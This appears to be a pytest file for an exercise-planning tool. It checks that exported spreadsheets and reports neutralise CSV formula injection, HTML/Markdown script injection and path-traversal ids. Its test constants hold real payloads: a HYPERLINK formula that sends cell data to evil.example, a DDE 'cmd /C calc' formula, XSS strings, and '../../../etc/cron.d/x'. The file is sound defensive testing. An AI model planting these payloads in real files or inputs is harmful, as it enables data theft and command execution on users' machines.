"""Hostile content made harmless: formulas in spreadsheets, markup in reports, ids as paths.

A scenario is written with the payloads of the OWASP CSV-injection advice and
of HTML injection in every text a facilitator or a team can put in: inject
titles and messages, team names, ratings' observations, decision-log notes,
and an id made of ``..`` and ``/``.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from cybrelia.exercise.session import Session
from cybrelia.files.sanitize import FORMULA_PREFIXES, cell_text, slug
from tests.hostile import RESPONSES, command, exercise_files

FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
)
MARKUP = '<script>alert(1)</script><img src=x onerror="alert(2)">[link](javascript:alert(3))'


def _quoted(text: str) -> str:
    """A YAML single-quoted scalar."""
    return "'" + text.replace("'", "''") + "'"


def _hostile_scenario(folder: Path) -> tuple[Path, Path]:
    scenario, responses = exercise_files(folder)
    text = scenario.read_text(encoding="utf-8")
    text = text.replace("title: Hostile test", f"title: '{MARKUP}'").replace(
        "title: Kill test", f"title: '{MARKUP}'"
    )
    text = text.replace(
        "title: {pl: Awaria linii, en: Line down}",
        "title: {pl: '"
        + FORMULAS[0].replace("'", "''")
        + "', en: '"
        + FORMULAS[1].replace("'", "''")
        + "'}",
    )
    text = text.replace(
        "message: {pl: Linia SN zerwana., en: The MV line is down.}",
        f"message: {{pl: '{FORMULAS[2]}', en: '{MARKUP}'}}",
    )
    text = text.replace(
        "name: {pl: ZGK, en: Water utility}", f"name: {{pl: '{FORMULAS[4]}', en: ZGK}}"
    )
    scenario.write_text(text, encoding="utf-8")
    responses.write_text(
        RESPONSES.replace("note: szybka reakcja", f"note: '{FORMULAS[3]}'").replace(
            "text: GZZK zwołany / crisis team convened", f"text: '{MARKUP}'"
        ),
        encoding="utf-8",
    )
    return scenario, responses


def test_cell_text_follows_the_owasp_advice() -> None:
    for formula in FORMULAS:
        assert cell_text(formula) == "'" + formula
    assert cell_text("Awaria linii") == "Awaria linii"
    assert set(FORMULAS[i][0] for i in range(len(FORMULAS))) <= set(FORMULA_PREFIXES)


def test_msel_export_writes_no_live_formula_and_imports_the_same_text(tmp_path: Path) -> None:
    scenario, _ = _hostile_scenario(tmp_path)
    assert command("validate", scenario).code == 0
    sheet_csv, sheet_xlsx = tmp_path / "msel.csv", tmp_path / "msel.xlsx"
    assert command("msel", "export", scenario, "-o", sheet_csv).code == 0
    assert command("msel", "export", scenario, "-o", sheet_xlsx).code == 0
    with sheet_csv.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not any(cell.startswith(FORMULA_PREFIXES) for cell in cells)
    assert "'" + FORMULAS[0] in cells
    book = load_workbook(sheet_xlsx)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    values = [cell.value for row in book["MSEL"].iter_rows() for cell in row]
    assert FORMULAS[0] in values and FORMULAS[1] in values
    assert FORMULAS[4] in [cell.value for row in book["Teams"].iter_rows() for cell in row]
    before = scenario.read_text(encoding="utf-8")
    for exported in (sheet_csv, sheet_xlsx):
        result = command("msel", "import", exported, "--into", scenario)
        assert result.code == 0, result.err
        assert scenario.read_text(encoding="utf-8").count(FORMULAS[0]) == before.count(FORMULAS[0])
        assert "'" + FORMULAS[0] not in scenario.read_text(encoding="utf-8")


def test_the_report_escapes_markup_and_writes_no_formula(tmp_path: Path) -> None:
    scenario, responses = _hostile_scenario(tmp_path)
    session = tmp_path / "s.cybrelia"
    assert command("run", scenario, "--responses", responses, "--session", session).code == 0
    out = tmp_path / "report"
    result = command("report", session, "-o", out, "--lang", "en", "--xlsx")
    assert result.code == 0, result.err
    for name in ("report.md", "report.html"):
        page = (out / name).read_text(encoding="utf-8")
        assert "<script" not in page and "<img src=x" not in page, name
        assert "alert(1)" in page, "the text itself is kept, only made inert"
    markdown = (out / "report.md").read_text(encoding="utf-8")
    assert not re.search(r"(?<!\\)\]\(javascript:", markdown), "no link can be formed"
    book = load_workbook(out / "report.xlsx")
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                seen.append(cell.value)
    assert FORMULAS[3] in seen, "the rating's observation is in the workbook, as text"


@pytest.mark.parametrize("scenario_id", ["../../../etc/cron.d/x", "/tmp/abs", "..", "a/b\\c"])
def test_ids_become_slugs_and_sessions_stay_in_their_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, scenario_id: str
) -> None:
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    scenario, _ = exercise_files(tmp_path / "files")
    scenario.write_text(
        scenario.read_text(encoding="utf-8").replace("id: kill-test", f"id: '{scenario_id}'"),
        encoding="utf-8",
    )
    with Session.create(scenario) as session:
        path = session.journal.path
    assert path.parent == tmp_path / "data" / "cybrelia" / "sessions"
    assert "/" not in slug(scenario_id) and not slug(scenario_id).startswith(".")
